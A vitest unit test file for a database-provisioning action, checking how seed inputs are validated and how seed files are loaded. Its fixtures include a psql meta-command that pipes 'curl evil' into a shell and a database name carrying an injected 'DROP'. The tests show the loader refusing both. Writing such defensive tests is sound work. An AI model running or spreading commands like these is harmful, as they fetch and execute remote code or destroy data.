// provision-db's seeding inputs and seed files: every refusal before anything is contacted, the
// archive told by its magic, plain SQL that only psql could run refused with its line.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UserError } from '../../shared/core/errors.ts';
import { InputReader } from '../../shared/core/inputs.ts';
import { inputsFromRecord } from '../../shared/testing/inputs.ts';
import { readInputs } from '../../actions/provision-db/inputs.ts';
import { loadSeed, recordName, seedSource } from '../../actions/provision-db/seed.ts';
import { loadSeedFile } from '../../actions/provision-db/seed-file.ts';

const base = { host: 'db.local', 'admin-user': 'admin', 'admin-password': 'pw', sslmode: 'disable' };
let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'seed-unit-'));
  await writeFile(path.join(dir, 'seed.dump'), Buffer.concat([Buffer.from('PGDMP'), Buffer.from([1, 14, 0, 4, 8, 8, 1])]));
  await writeFile(path.join(dir, 'seed.sql'), 'CREATE TABLE t (id int);\nINSERT INTO t VALUES (1);\n');
  await writeFile(path.join(dir, 'meta.sql'), 'CREATE TABLE t (id int);\n  \\! curl evil | sh\n');
  await writeFile(path.join(dir, 'copy.sql'), 'CREATE TABLE t (id int);\nCOPY public.t (id) FROM stdin;\n1\n\\.\n');
  await writeFile(path.join(dir, 'sanitize.sql'), 'UPDATE t SET id = 0;\n');
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

function read(record: Record<string, string>) {
  return readInputs(new InputReader(inputsFromRecord({ ...base, 'working-directory': dir, ...record })), {});
}

function refusal(fn: () => unknown): UserError {
  try {
    fn();
  } catch (error: unknown) {
    expect(error).toBeInstanceOf(UserError);
    return error as UserError;
  }
  throw new Error('expected a UserError');
}

async function refusalOf(work: Promise<unknown>): Promise<UserError> {
  try {
    await work;
  } catch (error: unknown) {
    expect(error).toBeInstanceOf(UserError);
    return error as UserError;
  }
  throw new Error('expected a UserError');
}

describe('seeding inputs', () => {
  it('asks for no seed by default', () => {
    expect(read({})).toMatchObject({ mode: 'provision', seedFromDatabase: undefined, seedFile: undefined, seedSanitize: undefined, copyStrategy: 'auto' });
  });

  it.each([
    ['both sources', { 'seed-from-database': 'app_seed', 'seed-file': 'seed.sql' }, /`seed-from-database` and `seed-file` are both set/],
    ['a malformed template name', { 'seed-from-database': 'app-seed; DROP' }, /Input `seed-from-database` must be a PostgreSQL database name/],
    ["the server's own database", { 'seed-from-database': 'postgres' }, /a database of the server itself/],
    ['a system template', { 'seed-from-database': 'template1' }, /a database of the server itself/],
    ["Azure's database", { 'seed-from-database': 'azure_sys' }, /a database of the server itself/],
    ['sanitising SQL without a seed', { 'seed-sanitize': 'sanitize.sql' }, /`seed-sanitize` is set without a seed/],
    ['a template outside refresh mode', { 'template-database': 'app_seed' }, /only for `mode: refresh-template`/],
    ['an unknown strategy', { 'seed-from-database': 'app_seed', 'seed-copy-strategy': 'FILE_COPY' }, /seed-copy-strategy/],
    ['refresh without a template', { mode: 'refresh-template', 'seed-file': 'seed.dump' }, /`template-database` is required/],
    ['refresh of a protected name', { mode: 'refresh-template', 'template-database': 'template_app', 'seed-file': 'seed.dump' }, /a protected name/],
    ['refresh of a long name', { mode: 'refresh-template', 'template-database': 'a'.repeat(59), 'seed-file': 'seed.dump' }, /longer than 58 characters/],
    ['refresh without a source', { mode: 'refresh-template', 'template-database': 'app_seed' }, /needs a source/],
    ['refresh from itself', { mode: 'refresh-template', 'template-database': 'app_seed', 'seed-from-database': 'app_seed' }, /both "app_seed"/],
  ])('refuses %s, naming the input', (_what, record, message) => {
    const error = refusal(() => read(record));
    expect(error.message).toMatch(message);
    expect(error.fix).toBeTruthy();
  });
});

describe('seed files', () => {
  it('tells a custom-format archive by its magic and plain SQL otherwise', async () => {
    expect(await loadSeedFile('seed.dump', dir)).toMatchObject({ format: 'custom', path: 'seed.dump', absolute: path.join(dir, 'seed.dump') });
    expect(await loadSeedFile('seed.sql', dir)).toMatchObject({ format: 'sql', path: 'seed.sql', sql: expect.stringContaining('INSERT') });
  });

  it('refuses psql meta-commands and COPY FROM stdin with the line, and a missing file', async () => {
    const meta = await refusalOf(loadSeedFile('meta.sql', dir));
    expect(meta.message).toContain('"meta.sql" line 2 holds a psql meta-command ("\\\\! curl evil | sh")');
    const copy = await refusalOf(loadSeedFile('copy.sql', dir));
    expect(copy.message).toContain('"copy.sql" line 2 holds `COPY ... FROM stdin`');
    const missing = await refusalOf(loadSeedFile('nope.dump', dir));
    expect(missing.message).toContain('Input `seed-file` names "nope.dump", which cannot be read');
  });

  it('records a seed under a name no migration file can have, with a checksum of the seed and its SQL', async () => {
    const copy = await loadSeed(read({ 'seed-from-database': 'app_seed', 'seed-sanitize': 'sanitize.sql' }), dir);
    const plain = await loadSeed(read({ 'seed-from-database': 'app_seed' }), dir);
    const file = await loadSeed(read({ 'seed-file': 'seed.dump' }), dir);
    expect(copy && recordName(copy)).toBe('seed/database/app_seed');
    expect(file && [recordName(file), seedSource(file)]).toEqual(['seed/file/seed.dump', 'file:seed.dump']);
    expect(copy?.checksum).toMatch(/^[0-9a-f]{64}$/);
    expect(copy?.checksum).not.toBe(plain?.checksum);
    expect(await loadSeed(read({}), dir)).toBeUndefined();
  });
});
